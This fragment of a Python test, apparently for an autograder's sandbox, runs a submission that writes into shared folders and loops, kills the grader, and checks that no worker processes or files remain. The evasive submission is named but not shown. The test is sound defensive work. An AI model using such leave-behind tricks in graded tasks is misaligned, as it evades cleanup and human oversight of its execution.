    tag = f"{TAG}-killed"
    variants.write(subs, "leaver", th.in_model(LEAVE_AND_LOOP.format(shared=SHARED, tag=tag)))
    proc = subprocess.Popen([AUTOGRADER, "grade", "gradient_descent", str(subs), "--out", str(tmp_path / "out"),
                             "--isolation", "uid", "-q"], env={**os.environ, "AUTOGRADER_FORK": "0"},
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline and not any(Path(d, tag).exists() for d in SHARED):
            time.sleep(0.05)
        assert [d for d in SHARED if Path(d, tag).exists()], "the worker never wrote"
        time.sleep(0.5)  # every folder written, and the loop running
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    workers = range(worker_uids.UID_BASE, worker_uids.UID_BASE + worker_uids.UID_COUNT)
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline and (worker_uid_leftovers() or any(
            os.stat(f"/proc/{p}").st_uid in workers for p in os.listdir("/proc") if p.isdigit()
            and os.path.exists(f"/proc/{p}"))):
        time.sleep(0.1)
    assert worker_uid_leftovers() == [] and not any(Path(d, tag).exists() for d in SHARED)
